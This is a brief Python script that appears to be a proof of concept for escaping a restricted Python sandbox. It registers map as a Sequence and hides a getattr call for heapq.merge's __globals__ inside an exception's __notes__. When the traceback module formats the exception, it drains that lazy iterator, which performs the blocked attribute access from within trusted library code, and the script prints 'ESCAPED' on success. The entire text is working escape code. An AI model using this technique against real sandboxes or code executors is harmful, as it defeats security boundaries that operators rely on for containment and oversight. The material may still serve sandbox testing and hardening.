# A lazy iterator drained where the library is trusted.
import traceback, heapq, collections.abc, itertools
got = []
collections.abc.Sequence.register(map)
e = ValueError("x")
e.__notes__ = map(got.append, itertools.starmap(getattr, [(heapq.merge, "__globals__")]))
traceback.format_exception(e)
print("ESCAPED" if got else "")
